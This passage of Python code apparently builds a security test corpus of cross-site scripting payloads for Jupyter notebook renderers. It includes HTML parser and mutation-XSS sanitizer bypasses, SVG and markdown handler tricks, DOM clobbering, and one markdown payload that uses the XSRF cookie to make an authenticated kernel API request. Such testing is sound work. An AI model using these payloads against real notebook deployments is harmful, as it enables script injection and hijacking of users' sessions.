        ("parser-cdata-01", "bogus comment: CDATA in HTML content", '<![CDATA[><img src=x onerror={q}>]]>'),
        ("parser-doctype-01", "own: doctype in the middle", '<!DOCTYPE html><img src=x onerror={q}>'),
        ("parser-double-lt-01", "malformed: <<img", '<<img src=x onerror={q}>'),
        ("parser-slash-sep-01", "malformed: slashes as attribute separators", '<img/src="x"/onerror={q}>'),
        ("parser-unclosed-01", "malformed: unclosed img tag followed by more markup", '<img src=x onerror={q}// <b>bold</b>'),
        ("parser-newline-attr-01", "malformed: newlines around =", '<img src=x onerror\n=\n{q}>'),
        ("parser-upper-attr-01", "own: upper-case handler attribute", '<IMG SRC=x ONERROR={q}>'),
        ("parser-dup-attr-01", "own: duplicate attributes (first wins)", '<img src=x onerror={q} onerror=void(0)>'),
        ("parser-quote-break-01", "own: quotes inside unquoted values", "<img src=x alt=a\"b onerror={q}>"),
        ("parser-backtick-01", "own: backtick-quoted attribute (old IE), handler follows", '<img src=`x` onerror={q}>'),
        ("parser-nul-in-text-01", "unicode: NUL between tags", '\u0000<img\u0020src=x onerror={q}>'),
        ("parser-zwsp-01", "unicode: zero width space before tag", '\u200b<img src=x onerror={q}>'),
        ("parser-fullwidth-text-01", "unicode: full-width characters in surrounding text", '＜x＞<img src=x onerror={q}>'),
        ("parser-template-shadow-01", "NOT-RAW via innerHTML (declarative shadow DOM needs setHTMLUnsafe/parser): template shadowrootmode", '<div><template shadowrootmode="open"><img src=x onerror={q}></template></div>'),
        ("parser-deep-nesting-01", "own: 700 nested divs then a payload", "<div>" * 700 + '<img src=x onerror={q}>' + "</div>" * 700),
        ("parser-long-attr-01", "own: 200k-character attribute before the handler", '<img title="' + "A" * 200000 + '" src=x onerror={q}>'),
        ("parser-many-attrs-01", "own: 500 attributes before the handler", "<img " + " ".join("data-a%d=1" % k for k in range(500)) + " src=x onerror={q}>"),
        ("parser-entity-in-handler-01", "own: entities inside the handler", '<img src=x onerror="&#116;&#111;&#112;&#46;__nbgPwn&#40;&#39;{i}&#39;&#41;">'),
        ("parser-entity-hex-handler-01", "own: hex entities without semicolons in the handler", '<img src=x onerror="&#x74&#x6f&#x70.__nbgPwn(\'{i}\')">'),
        ("parser-js-unicode-handler-01", "own: unicode escapes in handler identifiers", '<img src=x onerror="\\u0074op[\'\\u005f\\u005fnbgPwn\'](\'{i}\')">'),
    ]
    for cid, src, tpl in pt:
        c.add(cid, src, (lambda t: lambda i: t.replace("{q}", '"%s"' % P(i)).replace("{i}", i))(tpl))

    # more handler syntax and element classes
    more = [
        ("custom-element-onfocus-01", PS + "custom element with tabindex + onfocus", '<nbg-x tabindex="1" onfocus="{p}">x</nbg-x>'),
        ("custom-element-onmouseover-01", "own: custom element onmouseover", '<my-widget onmouseover="{p}">hover</my-widget>'),
        ("custom-element-anim-01", "own: unknown element with animation event",
         '<style>@keyframes nbgc{{to{{opacity:.5}}}}</style><xss style="animation:nbgc .1s" onanimationstart="{p}">x</xss>'),
        ("isindex-onfocus-01", PS + "isindex (unknown element) tabindex + onfocus", '<isindex tabindex="1" onfocus="{p}">'),
        ("keygen-onfocus-01", "own: keygen (removed element) tabindex + onfocus", '<keygen tabindex="1" onfocus="{p}">'),
        ("formfeed-sep-01", "own: form feed as attribute separator", '<img\fsrc=x\fonerror="{p}">'),
        ("slash-sep-quoted-01", "own: slash separators with quoted values", '<img/src="x"/onerror="{p}"/>'),
        ("entity-parens-01", "own: &lpar; &rpar; named entities in a handler", '<img src=x onerror="top.__nbgPwn&lpar;\'{i}\'&rpar;">'),
        ("template-literal-call-01", PS + "tagged template call without parentheses", '<img src=x onerror="top.__nbgPwn`{i}`">'),
        ("img-in-link-01", "own: img onerror inside a link", '<a href="https://example.org"><img src=x onerror="{p}"></a>'),
        ("handler-mixed-case-01", "own: mixed-case handler name", '<img src=x oNeRrOr="{p}">'),
        ("handler-spaces-01", "own: spaces around = and quotes", '<img src = x onerror = "{p}" >'),
    ]
    for cid, src, tpl in more:
        c.add(cid, src, (lambda t: lambda i: t.replace("{p}", P(i)).replace("{i}", i).replace("{{", "{").replace("}}", "}"))(tpl))
    c.add("jsurl-a-target-iframe-01", "own: javascript: link targeting a named same-origin iframe (JupyterLab keeps a non-empty target)",
          lambda i: '<iframe name="nbgtf" style="width:10px;height:10px"></iframe><a href="javascript:%s" target="nbgtf">click</a>' % P(i, "parent"))
    c.add("jsurl-form-target-iframe-01", "own: form action javascript: targeting a named iframe",
          lambda i: '<iframe name="nbgtf2" style="width:10px;height:10px"></iframe><form action="javascript:%s" target="nbgtf2"><button>go</button></form>' % P(i, "parent"))
    c.add("jsurl-formtarget-01", "own: input formaction + formtarget=_self",
          lambda i: '<form><input type="submit" formtarget="_self" formaction="javascript:%s" value="go"></form>' % P(i))
    c.add("isolated-metadata-script-01", "own: text/html with metadata isolated=true (JupyterLab renders it in an iframe)",
          lambda i: {"text/html": "<script>%s</script>" % P(i)}, {"text/html": {"isolated": True}})
    c.add("isolated-metadata-img-01", "own: isolated output with img onerror",
          lambda i: {"text/html": '<img src=x onerror="%s">' % P(i)}, {"isolated": True})
    c.add("isolated-metadata-alert-01", "own: isolated output showing a dialog",
          {"text/html": "<script>alert(1)</script>"}, {"text/html": {"isolated": True}})

    # mutation XSS that needs a sanitizer round trip (not raw)
    mx = [
        ("mxss-mglyph-01", "NOT-RAW: DOMPurify 2.0.0 mXSS (math/mtext/table/mglyph/style), executes after a parse+serialize round trip",
         '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={p}&gt;">'),
        ("mxss-malignmark-01", "NOT-RAW: DOMPurify 2.0.1 mXSS (malignmark), round trip",
         '<math><mtext><table><malignmark><style><!--</style><img title="--&gt;&lt;img src=1 onerror={p}&gt;">'),
        ("mxss-form-nesting-01", "NOT-RAW: nested form mXSS (serialize/parse changes tree)",
         '<form><math><mtext></form><form><mglyph><style></math><img src onerror={p}>'),
        ("mxss-svg-style-comment-01", "NOT-RAW: svg style comment round trip",
         '<svg><style><!--</style><img src=x onerror={p}>--></style></svg>'),
        ("mxss-noscript-serialize-01", "mXSS: noscript parsed with scripting disabled by a server-side parser (raw text for the browser)",
         '<noscript><style></noscript><img src=x onerror={p}></style></noscript>'),
    ]
    for cid, src, tpl in mx:
        c.add(cid, src, (lambda t: lambda i: t.format(p=P(i)))(tpl))

    # DOM clobbering that leads to execution
    c.add("clobber-script-src-01", "own: DOM clobbering: a following script loads window.nbgCfg.src (clobbered by a form)",
          lambda i: '<form id="nbgCfg"><input name="src" value="data:text/javascript,%s"></form><script>var s=document.createElement(\'script\');s.src=window.nbgCfg.src.value;document.body.appendChild(s)</script>' % urllib.parse.quote(P(i)))
    c.add("clobber-anchor-href-01", "own: DOM clobbering: anchor id used as a URL by a following script",
          lambda i: '<a id="nbgLoader" href="data:text/javascript,%s"></a><script>import(String(window.nbgLoader))</script>' % urllib.parse.quote(P(i)))
    c.add("clobber-document-01", "own: DOM clobbering via img name on document (document.nbgHook)",
          lambda i: '<img name="nbgHook" src="%s" alt="%s"><script>Function(document.nbgHook.alt)()</script>' % (GIF, P(i).replace("'", "&#39;")))

    # links that leave the output: JupyterLab gives <a> target=_blank, not <area>
    for cid, rt, desc, href, name in [
        ("area-nav-https-01", "rt-nav-area-https-01", "https URL", "https://example.org/pwned", "m1"),
        ("area-nav-rel-01", "rt-nav-area-rel-01", "same-origin path", "/pwned", "m2"),
    ]:
        c.add(cid, RT(rt) + "image-map <area href> to a %s without target (JupyterLab only gives <a> target=_blank): a click navigates the top page" % desc,
              '<img src="%s" usemap="#%s" width="80" height="80"><map name="%s"><area shape="rect" coords="0,0,80,80" href="%s"></map>' % (GIF, name, name, href))
    c.add("area-nav-default-01", RT("rt-nav-area-default-01") + "image-map <area shape=default> with a relative href: a click navigates the top page",
          '<img src="%s" usemap="#m3" width="80" height="80"><map name="m3"><area shape="default" href="../../pwned"></map>' % GIF)

    # parser differentials in current Chromium (customizable select, foreign content, new elements)
    rt_parser = [
        ("parser-select-option-img-01", "rt-mxss-01", "<img> inside <option> (Chromium's customizable select keeps it; older parsers drop the tag)",
         '<select><option><img src=x onerror="{p}"></option></select>'),
        ("parser-selectedcontent-01", "rt-mxss-02", "select > button > selectedcontent: the selected option's <img> is cloned into the button",
         '<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror="{p}">a</option></select>'),
        ("parser-selectedcontent-clone-01", "rt-mxss-20", "selectedcontent cloning a nested <img> from the option",
         '<select><button><selectedcontent></selectedcontent></button><option><span title="x"><img src=x onerror="{p}"></span></option></select>'),
        ("parser-select-svg-style-01", "rt-mxss-03", "<svg><style> inside <select>: foreign-content <style> holds elements, not raw text",
         '<select><svg><style><img src=x onerror="{p}"></style></svg></select>'),
        ("parser-table-svg-style-01", "rt-mxss-04", "<svg><style> foster-parented out of a <table>: the <img> in the style is an element",
         '<table><svg><style><img src=x onerror="{p}"></style></svg></table>'),
        ("parser-svg-select-style-01", "rt-mxss-11", "<select><style> inside <svg>: not raw text in foreign content",
         '<svg><select><style><img src=x onerror="{p}"></style></select></svg>'),
        ("parser-svg-textarea-01", "rt-mxss-12", "<textarea> inside <svg> is not RCDATA (foreign content)",
         '<svg><textarea><img src=x onerror="{p}"></textarea></svg>'),
        ("parser-noscript-img-title-01", "rt-mxss-13", "noscript raw text (scripting on) ends inside an img title attribute",
         "<noscript><img title=\"</noscript><img src=x onerror={p}>\"></noscript>"),
        ("parser-svg-pi-01", "rt-mxss-16", "processing instruction in <svg> is a bogus comment ending at the first '>' (</svg> inside it is markup)",
         '<svg><?xml </svg><img src=x onerror="{p}"> ?></svg>'),
        ("parser-svg-font-face-01", "rt-mxss-18", "<img> inside svg <font-face> breaks out of foreign content",
         '<svg><font-face><img src=x onerror="{p}"></font-face></svg>'),
        ("parser-search-01", "rt-mxss-19", "<img> inside the new <search> element",
         '<search><img src=x onerror="{p}"></search>'),
    ]
    for cid, rt, desc, tpl in rt_parser:
        c.add(cid, RT(rt) + "parser differential: " + desc, marker(tpl))

    # svg payloads inline in text/html (mirror of the svg category)
    return c

# --------------------------------------------------------------------------------------
# inline SVG in HTML (same payloads as image/svg+xml)
# --------------------------------------------------------------------------------------
SVG_PAYLOADS = [
    ("onload", "svg root onload", '<svg xmlns="http://www.w3.org/2000/svg" onload="{p}"><rect width="10" height="10"/></svg>'),
    ("script", "svg script element", '<svg xmlns="http://www.w3.org/2000/svg"><script>{p}</script></svg>'),
    ("script-cdata", "svg script with CDATA", '<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[{p}]]></script></svg>'),
    ("script-xlink", "svg script xlink:href data: (inline: JupyterLab re-creates it as an HTML script without src)", '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><script xlink:href="data:text/javascript,{pu}"/></svg>'),
    ("image-onerror", "svg image onerror", '<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="{p}"/></svg>'),
    ("animate-onbegin", "animate onbegin", '<svg xmlns="http://www.w3.org/2000/svg"><animate onbegin="{p}" attributeName="x" dur="1s"/></svg>'),
    ("set-onbegin", "set onbegin", '<svg xmlns="http://www.w3.org/2000/svg"><set onbegin="{p}" attributeName="x" to="1"/></svg>'),
    ("animate-href", "animate href javascript: (click)", '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="30"><a><animate attributeName="href" values="javascript:{p}"/><rect width="100" height="30"/></a></svg>'),
    ("set-href", "set href javascript: (click)", '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="30"><a><set attributeName="href" to="javascript:{p}"/><rect width="100" height="30"/></a></svg>'),
    ("a-xlink-href", "a xlink:href javascript: (click)", '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="30"><a xlink:href="javascript:{p}"><rect width="100" height="30"/></a></svg>'),
    ("foreignobject-img", "foreignObject with HTML img onerror", '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="100" height="100"><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="{p}"/></foreignObject></svg>'),
    ("foreignobject-iframe", "foreignObject with iframe javascript:", '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:{p}"></iframe></foreignObject></svg>'),
    ("use-data-url", "use href data: URL with an onerror image", '<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml;base64,{usedata}#x"/></svg>'),
    ("rect-onmouseover", "rect onmouseover (hover)", '<svg xmlns="http://www.w3.org/2000/svg" width="60" height="60"><rect width="60" height="60" onmouseover="{p}"/></svg>'),
    ("rect-onclick", "rect onclick", '<svg xmlns="http://www.w3.org/2000/svg" width="60" height="60"><rect width="60" height="60" onclick="{p}"/></svg>'),
    ("style-animation", "CSS animation event inside svg", '<svg xmlns="http://www.w3.org/2000/svg"><style>@keyframes nbga{{to{{opacity:.5}}}} rect{{animation:nbga .1s}}</style><rect width="10" height="10" onanimationstart="{p}"/></svg>'),
    ("discard-onbegin", "discard onbegin", '<svg xmlns="http://www.w3.org/2000/svg"><discard onbegin="{p}"/></svg>'),
    ("animatemotion-onend", "animateMotion onend", '<svg xmlns="http://www.w3.org/2000/svg"><rect width="5" height="5"><animateMotion onend="{p}" path="M0,0 L5,5" dur="0.05s"/></rect></svg>'),
    ("g-onload-nested", "nested svg onload", '<svg xmlns="http://www.w3.org/2000/svg"><svg onload="{p}"/></svg>'),
    ("feimage-onerror", "feImage href onerror-less external (not observable) plus a handler on the filter region", '<svg xmlns="http://www.w3.org/2000/svg"><filter id="f"><feImage href="x"/></filter><rect width="50" height="50" filter="url(#f)" onmouseover="{p}"/></svg>'),
    ("title-breakout", "text in title containing markup (XML parsed, no breakout) plus handler", '<svg xmlns="http://www.w3.org/2000/svg"><title>&lt;img src=x onerror=alert(1)&gt;</title><image href="y" onerror="{p}"/></svg>'),
    ("entity-decl", "XML entity declared in DOCTYPE used in a handler", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY nbg "{p}">]><svg xmlns="http://www.w3.org/2000/svg" onload="&nbg;"/>'),
    ("xml-stylesheet", "xml-stylesheet PI with javascript: (historic)", '<?xml-stylesheet href="javascript:{p}"?><svg xmlns="http://www.w3.org/2000/svg" onload="{p}"/>'),
    ("handler-entities", "entity-encoded handler", '<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="&#116;&#111;&#112;.__nbgPwn(&#39;{i}&#39;)"/></svg>'),
    ("a-javascript-upper", "a href JAVASCRIPT: with tab (click)", '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="30"><a href="JAVA&#9;SCRIPT:{p}"><rect width="100" height="30"/></a></svg>'),
]


def fill_svg(tpl, i):
    use = ('<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="%s"/></svg>' % P(i))
    return (tpl.replace("{p}", P(i)).replace("{pu}", urllib.parse.quote(P(i)))
            .replace("{i}", i).replace("{usedata}", base64.b64encode(use.encode()).decode())
            .replace("{{", "{").replace("}}", "}"))


def svg_cases():
    c = Cases("svg")
    for name, desc, tpl in SVG_PAYLOADS:
        c.add("mime-%s-01" % name,
              "NOT-RAW in JupyterLab (image/svg+xml is shown as <img>); classic Notebook/nbclassic inline SVG: " + desc,
              (lambda t: lambda i: {"image/svg+xml": fill_svg(t, i), "text/plain": "<Figure>"})(tpl))
    for name, desc, tpl in SVG_PAYLOADS:
        if name in ("entity-decl", "xml-stylesheet", "onload", "discard-onbegin"):
            continue  # XML-only constructs or events that do not fire for innerHTML-inserted SVG
        pre = "NOT-RAW in Chromium: " if name in ("script-xlink", "use-data-url") else ""
        c.add("inline-html-%s-01" % name, pre + "inline SVG inside text/html: " + desc,
              (lambda t: lambda i: {"text/html": fill_svg(t, i)})(tpl))
    # SVG <a> is no HTMLAnchorElement: JupyterLab leaves its target unset, a click navigates the top page
    for cid, rt, desc, svg in [
        ("inline-html-a-nav-https-01", "rt-nav-svg-a-https-01", "a href to an https URL",
         '<svg width="120" height="40"><a href="https://example.org/pwned"><rect width="120" height="40" fill="red"/></a></svg>'),
        ("inline-html-a-nav-rel-01", "rt-nav-svg-a-rel-01", "a href to a same-origin path",
         '<svg width="120" height="40"><a href="/pwned"><rect width="120" height="40" fill="red"/></a></svg>'),
        ("inline-html-a-xlink-nav-01", "rt-nav-svg-a-xlink-01", "a xlink:href to a same-origin path",
         '<svg width="120" height="40" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="/pwned"><rect width="120" height="40" fill="red"/></a></svg>'),
    ]:
        c.add(cid, RT(rt) + "inline SVG inside text/html: " + desc + " (no target): a click navigates the top page",
              {"text/html": svg})
    c.add("mime-a-nav-01", "NOT-RAW in JupyterLab (image/svg+xml is shown as <img>); classic Notebook/nbclassic inline SVG: "
          + RT("rt-nav-svg-mime-a-01") + "a href to a same-origin path (click navigates the top page)",
          {"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40"><a href="/pwned"><rect width="120" height="40"/></a></svg>',
           "text/plain": "<Figure>"})
    return c

# --------------------------------------------------------------------------------------
# markdown
# --------------------------------------------------------------------------------------
def markdown_cases():
    c = Cases("markdown")
    md = [
        ("raw-img-onerror-01", "raw HTML inline in a paragraph", 'Some text <img src=x onerror="{p}"> more text.'),
        ("raw-img-block-01", "HTML block type 7 (complete tag alone on a line)", '# Title\n\n<img src=x onerror="{p}">\n\nafter'),
        ("raw-script-block-01", "HTML block type 1 (<script>)", '<script>\n{p}\n</script>'),
        ("raw-script-blankline-01", "HTML block type 1 spans blank lines", 'Intro\n\n<script>\n\n{p}\n\n</script>'),
        ("raw-div-block-01", "HTML block type 6 (<div>) with handler", '<div onmouseover="{p}">\n\nhover *me*\n\n</div>'),
        ("raw-details-01", "details ontoggle block", '<details open ontoggle="{p}">\n<summary>More</summary>\n\ntext\n</details>'),
        ("raw-svg-onload-01", "inline svg in markdown", 'Chart: <svg><animate onbegin="{p}" attributeName="x" dur="1s"/></svg>'),
        ("raw-iframe-src-01", "iframe javascript: in markdown", '<iframe src="javascript:{p}"></iframe>'),
        ("raw-iframe-srcdoc-01", "iframe srcdoc in markdown", '<iframe srcdoc="&lt;script&gt;{p}&lt;/script&gt;"></iframe>'),
        ("list-img-01", "raw HTML inside a list item", '- item one\n- item <img src=x onerror="{p}">\n- item three'),
        ("ordered-list-01", "raw HTML inside an ordered list", '1. first\n2. <img src=x onerror="{p}">'),
        ("nested-list-01", "raw HTML in a nested list", '- a\n  - b\n    - <img src=x onerror="{p}">'),
        ("table-cell-01", "GFM table cell with raw HTML", '| a | b |\n|---|---|\n| 1 | <img src=x onerror="{p}"> |'),
        ("table-header-01", "GFM table header with raw HTML", '| <img src=x onerror="{p}"> | b |\n|---|---|\n| 1 | 2 |'),
        ("blockquote-01", "raw HTML in a blockquote", '> quoted <img src=x onerror="{p}">'),
        ("blockquote-nested-01", "raw HTML in nested blockquotes", '> > > <details open ontoggle="{p}"><summary>x</summary></details>'),
        ("heading-01", "raw HTML in a heading", '## Results <img src=x onerror="{p}">'),
        ("setext-heading-01", "raw HTML in a setext heading", 'Results <img src=x onerror="{p}">\n======='),
        ("emphasis-01", "raw HTML inside emphasis", '*emphasis <img src=x onerror="{p}">*'),
        ("strong-01", "raw HTML inside strong", '**bold <img src=x onerror="{p}">**'),
        ("link-text-01", "raw HTML inside link text", '[<img src=x onerror="{p}">](https://example.org)'),
        ("footnote-like-01", "raw HTML after a reference definition", '[ref]: https://example.org\n\nsee [ref] <img src=x onerror="{p}">'),
        ("refdef-title-01", "reference definition with raw HTML in following paragraph title", '[a]: https://example.org "title"\n\n[a]\n<img src=x onerror="{p}">'),
        ("html-comment-01", "HTML block type 2 (comment) followed by payload", '<!-- note -->\n<img src=x onerror="{p}">'),
        ("html-comment-hide-01", "comment hiding the closing of a block", '<!--\n-->\n<script>{p}</script>'),
        ("pi-block-01", "HTML block type 3 (processing instruction)", '<?php echo 1; ?>\n\n<img src=x onerror="{p}">'),
        ("cdata-block-01", "HTML block type 5 (CDATA)", '<![CDATA[ x ]]>\n\n<img src=x onerror="{p}">'),
        ("type7-no-interrupt-01", "type 7 tag cannot interrupt a paragraph (inline HTML instead)", 'paragraph line\n<custom-el onmouseover="{p}">hover</custom-el>'),
        ("indent-3-01", "three-space indented HTML is still HTML", '   <img src=x onerror="{p}">'),
        ("lazy-continuation-01", "lazy paragraph continuation with 4-space indent (not code)", 'text\n    <img src=x onerror="{p}">'),
        ("list-indent-01", "indentation inside list item (HTML, not code)", '- a\n\n     <img src=x onerror="{p}">'),
        ("tab-indent-list-01", "tab indentation inside list items", '-\ta\n\n\t<img src=x onerror="{p}">'),
        ("fence-backtick-info-01", "NOT-RAW: differential (marked sees a code fence, CommonMark does not: a backtick fence whose info string has a backtick is not a fence)", '``` a`b\n<img src=x onerror="{p}">\n```'),
        ("fence-unclosed-tilde-01", "text after a closed tilde fence", '~~~\ncode\n~~~\n<img src=x onerror="{p}">'),
        ("code-span-escape-01", "unbalanced backticks around raw HTML", '`` ` <img src=x onerror="{p}"> ` ``x` <img src=y onerror="{p}">'),
        ("backslash-escape-01", "backslash before a tag only escapes the <", 'x \\<b> <img src=x onerror="{p}">'),
        ("entity-then-tag-01", "entities and raw tags mixed", '&lt;b&gt; <img src=x onerror="{p}">'),
        ("multiline-tag-01", "inline HTML tag spanning lines", 'a <img\nsrc=x\nonerror="{p}"> b'),
        ("autolink-next-01", "GFM autolink next to raw HTML", 'https://example.org <img src=x onerror="{p}">'),
        ("math-then-html-01", "math followed by raw HTML (removeMath/replaceMath)", 'Energy $E=mc^2$ <img src=x onerror="{p}">'),
        ("math-display-html-01", "display math followed by raw HTML", '$$\\int_0^1 x\\,dx$$\n\n<details open ontoggle="{p}"><summary>s</summary></details>'),
        ("dollar-in-attr-01", "dollar signs inside an attribute value (math splitting)", '<img src=x alt="$a$" onerror="{p}"> and $b$'),
        ("html-in-math-01", "NOT-RAW: HTML inside $...$ is escaped by removeMath", '$<img src=x onerror="{p}">$'),
        ("a-target-self-01", "raw anchor with javascript: and target=_self (click)", '<a href="javascript:{p}" target="_self">click here</a>'),
        ("form-action-01", "raw form with javascript: action (click)", '<form action="javascript:{p}"><button>Submit</button></form>'),
        ("anim-01", "raw HTML animation event", '<style>@keyframes nbgm{{to{{opacity:.9}}}}</style>\n\n<p style="animation:nbgm .1s" onanimationstart="{p}">x</p>'),
        ("noscript-01", "noscript breakout inside markdown", '<noscript><p title="</noscript><img src=x onerror="{p}">"></noscript>'),
        ("svg-p-breakout-01", "mXSS svg </p> breakout inside markdown", '<svg></p><style><a id="</style><img src=1 onerror="{p}">"></svg>'),
        ("long-doc-01", "payload at the end of a long harmless document",
         "\n\n".join("## Section %d\n\nLorem ipsum *dolor* sit amet, `code` and [a link](https://example.org/%d)." % (k, k) for k in range(200)) + '\n\n<img src=x onerror="{p}">'),
        ("alert-01", "classic alert in markdown", 'Hi <img src=x onerror=alert(1)>'),
        ("api-01", "markdown payload making a credentialed API request", '<img src=x onerror="fetch(\'/api/kernels\',{{method:\'POST\',headers:{{\'X-XSRFToken\':(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]}}}})">'),
    ]
    for cid, src, tpl in md:
        c.add(cid, ("NOT-RAW: own: markdown " + src[9:]) if src.startswith("NOT-RAW: ") else "own: markdown " + src,
              (lambda t: lambda i: {"text/markdown": t.format(p=P(i))})(tpl))
    links = [
        ("link-js-01", "[x](javascript:...) link", "[click](javascript:{p})"),
        ("link-js-upper-01", "upper-case scheme", "[click](JAVASCRIPT:{p})"),
        ("link-js-entity-01", "entity in link destination", "[click](javascript&#58;{p})"),
        ("autolink-js-01", "autolink with javascript:", "<javascript:{p}>"),
        ("refdef-js-01", "reference definition to javascript:", "[click][r]\n\n[r]: javascript:{p}"),
        ("image-js-01", "image with javascript: src", "![x](javascript:{p})"),
        ("link-data-01", "link to data:text/html", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
        ("link-vbscript-01", "vbscript: link", "[click](vbscript:msgbox(1))"),
    ]
    for cid, src, tpl in links:
        c.add(cid, "NOT-RAW in JupyterLab (links get target=_blank, javascript: then does not run in Chromium); executes in UIs that keep same-frame links: markdown " + src,
              (lambda t: lambda i: {"text/markdown": t.format(p=P(i))})(tpl))
    math = [
        ("mathjax-href-01", "NOT-RAW: MathJax \\href{javascript:} in markdown (JupyterLab loads MathJax 3 with the safe extension; MathJax 2 UIs run it)", "$\\href{{javascript:{p}}}{{click}}$"),
        ("mathjax-class-01", "MathJax \\class", "$\\class{{jp-nbg}}{{x}}$ <img src=x onerror=\"{p}\">"),
    ]
    for cid, src, tpl in math:
        c.add(cid, src if src.startswith("NOT-RAW") else "own: " + src, (lambda t: lambda i: {"text/markdown": t.format(p=P(i))})(tpl))
    # fence info strings: marked + JupyterLab's highlighter put them into class="language-…" unescaped
    fence = [
        ("fence-info-attr-01", "rt-md-fence-lang-attr-01", "quote ends the attribute; onmouseover/onfocus with tabindex (hover, focus)",
         '```x" onmouseover="{p}" tabindex="1" onfocus="{p}\nprint(1)\n```'),
        ("fence-info-anim-01", "rt-md-fence-lang-anim-01", "style animation + onanimationstart, keyframes from a <style> in the same cell",
         '```x" style="animation:nbgk 0.1s" onanimationstart="{p}" onmouseover="{p}\ncode\n```\n\n<style>@keyframes nbgk{to{opacity:.5}}</style>'),
        ("fence-info-backslash-01", "rt-md-fence-lang-backslash-01", 'backslash-escaped quotes (marked unescapes \\" to ")',
         '```x\\" onmouseover=\\"{p}\\" tabindex=1 onfocus=\\"{p}\nprint(1)\n```'),
        ("fence-info-close-tag-01", "rt-md-fence-lang-close-tag-01", "quote and '>' close the code tag; an <img onerror> follows",
         '```x"><img src=x onerror="{p}">\ncode\n```'),
        ("fence-info-autofocus-01", "rt-md-fence-lang-autofocus-01", "autofocus + onfocus (fires without interaction)",
         '```x" autofocus tabindex="1" onfocus="{p}\nprint(1)\n```'),
        ("fence-info-jp-keyframes-01", "rt-md-fence-lang-jpanim-01", "onanimationstart on a keyframes name JupyterLab's CSS defines (fadeIn)",
         '```py" style="animation:fadeIn 1ms" onanimationstart="{p}\nprint(1)\n```'),
        ("fence-info-list-01", "rt-md-fence-lang-list-01", "fence inside a list item",
         '- item\n\n  ```x" onmouseover="{p}\n  code\n  ```'),
        ("fence-info-blockquote-01", "rt-md-fence-lang-quote-01", "fence inside a blockquote",
         '> ```x" onmouseover="{p}\n> code\n> ```'),
        ("fence-info-python-01", "rt-md-fence-lang-python-01", "info string starting with a real language name (highlighted code)",
         '```python" onmouseover="{p}\nimport os\n```'),
    ]
    for cid, rt, desc, tpl in fence:
        c.add(cid, RT(rt) + "markdown code fence info string copied into class=\"language-…\": " + desc,
              (lambda t: lambda i: {"text/markdown": t.replace("{p}", P(i))})(tpl))
    # classic Notebook 6 highlights a fenced block by loading the RequireJS module
    # codemirror/mode/INFO/INFO: ':' makes the id a URL and '..' climbs out of the mode directory
    c.add("fence-info-module-url-01", "NOT-RAW in JupyterLab (its highlighter only looks the language up); "
          + RT("rt-classic-fence-requirejs-01") + "classic Notebook loads the fence info string as a RequireJS "
          "module id, ../../data:,… becomes a script URL (also in Markdown cells, before classic's own sanitizer)",
          lambda i: {"text/markdown": "```../../data:,%s%%2F%%2F\nx = 1\n```\n" % urllib.parse.quote(P(i), safe="()._")})
    # links that leave the output (no target=_blank from JupyterLab) and an isolated markdown output
    c.add("svg-a-nav-01", RT("rt-nav-md-svg-a-01") + "raw inline SVG <a href=/pwned> in markdown (no target): a click navigates the top page",
          {"text/markdown": '<svg width="120" height="40"><a href="/pwned"><rect width="120" height="40" fill="red"/></a></svg>'})
    c.add("area-nav-01", RT("rt-md-area-nav-01") + "raw <map><area href=/pwned> in markdown (no target): a click navigates the top page",
          {"text/markdown": '<img src="%s" usemap="#mm" width="80" height="80">\n<map name="mm"><area shape="rect" coords="0,0,80,80" href="/pwned"></map>' % GIF})
    c.add("area-nav-block-01", RT("rt-md-area-nav-block-01") + "markdown HTML block (<div>) with <map><area shape=default href=https://…>: a click navigates the top page",
          {"text/markdown": '<div>\n<img src="%s" usemap="#mm2" width="80" height="80"><map name="mm2"><area shape="default" href="https://example.org/"></map>\n</div>' % GIF})
    # an HTML block ending inside an attribute value runs on into the rendered page up to the next
    # quote (a GFM autolink's href): the URL's path becomes the tag's attributes
    autolink_attr = [
        ("unterminated-attr-autolink-01", "rt2-md-autolink-attr-01", "https:// autolink",
         '<div title="\n\nx" y>\n\nhttps://example.com/contenteditable/autofocus/onfocus={p}//\n'),
        ("unterminated-attr-www-01", "rt2-md-autolink-attr-02", "www. autolink",
         '<div title="\n\nx" y>\n\nwww.example.com/contenteditable/autofocus/onfocus={p}//\n'),
    ]
    for cid, rt, desc, tpl in autolink_attr:
        c.add(cid, RT(rt) + "markdown HTML block ending inside title=\"…\", closed by the quote of a " + desc,
              (lambda t: lambda i: {"text/markdown": t.replace("{p}", P(i))})(tpl))
    # JupyterLab's removeMath pulls $…$ out before marked runs and puts it back with only & < >
    # escaped: a " in the math ends the attribute marked wrote the placeholder into, and a > in
    # the math no longer ends a raw HTML tag (what follows becomes its attributes)
    math_placeholder = [
        ("math-quote-alt-01", "rt3-md-math-quote-01", "image alt text", '![$" onerror="{p}//$](x)'),
        ("math-quote-img-title-01", "rt3-md-math-quote-02", "image title", "![a](x '$\" onerror=\"{p}//$')"),
        ("math-quote-href-01", "rt3-md-math-quote-03", "link destination", '[a]($"onmouseover="{p}//$)'),
        ("math-quote-refdef-01", "rt3-md-math-quote-04", "reference definition title", "[a]\n\n[a]: x '$\" onmouseover=\"{p}//$'"),
